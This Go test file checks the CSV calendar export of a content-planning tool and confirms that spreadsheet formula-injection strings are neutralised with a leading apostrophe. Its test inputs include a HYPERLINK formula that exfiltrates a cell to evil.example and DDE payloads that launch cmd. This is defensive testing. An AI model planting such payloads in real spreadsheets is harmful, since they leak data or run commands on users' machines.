package render

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/pillar-strategy/pillar/internal/csvcell"
	"github.com/pillar-strategy/pillar/planner"
	"github.com/pillar-strategy/pillar/planner/plantest"
)

func TestCSVRowsMatchSlots(t *testing.T) {
	cal := storeCalendar(t)
	var buf bytes.Buffer
	if err := WriteCalendar(&buf, cal, "csv"); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\ufeff")) || !bytes.Contains(buf.Bytes(), []byte("uid\r\n")) {
		t.Fatal("the CSV should start with a UTF-8 byte order mark and end lines with CRLF")
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(rows[0], csvColumns) {
		t.Fatalf("header %q", rows[0])
	}
	if len(rows) != len(cal.Slots)+1 {
		t.Fatalf("%d rows for %d slots", len(rows)-1, len(cal.Slots))
	}
	for i, s := range cal.Slots {
		r := rows[i+1]
		want := []string{s.Day(), s.Clock(), s.Timezone, s.Start.Format(time.RFC3339), s.Channel, s.Platform,
			s.Pillar, s.PillarName, s.Tactic, s.Campaign, s.Format, s.Brief, s.UID}
		if !reflect.DeepEqual(r, want) {
			t.Fatalf("row %d\n got %q\nwant %q", i+1, r, want)
		}
	}
}

// TestCSVNeutralisesFormulas: text from a strategy that a spreadsheet would
// run as a formula comes out as text.
func TestCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	for _, e := range evil {
		cal := &planner.Calendar{From: plantest.Date(2027, 1, 1), To: plantest.Date(2027, 1, 2), Slots: []planner.Slot{{
			Start: time.Date(2027, 1, 1, 8, 0, 0, 0, time.UTC), Local: "2027-01-01T09:00", Timezone: "UTC",
			Channel: e, Pillar: e, PillarName: e, Tactic: e, Campaign: e, Format: e, Brief: e, UID: "x@pillar",
		}}}
		var buf bytes.Buffer
		if err := WriteCalendar(&buf, cal, "csv"); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		// With CRLF line endings the writer drops a lone CR inside a
		// field; what matters is that the apostrophe comes first.
		want := "'" + strings.ReplaceAll(e, "\r", "")
		for _, col := range []int{4, 6, 7, 8, 9, 10, 11} {
			if got := rows[1][col]; got != want {
				t.Errorf("%s = %q, want the apostrophe in front of %q", csvColumns[col], got, e)
			}
		}
	}
	for _, safe := range []string{"", "Brand", "Q&A", "50% off", "a=b", "email@example.com"} {
		if got := csvcell.Defuse(safe); got != safe {
			t.Errorf("csvcell.Defuse(%q) = %q", safe, got)
		}
	}
}
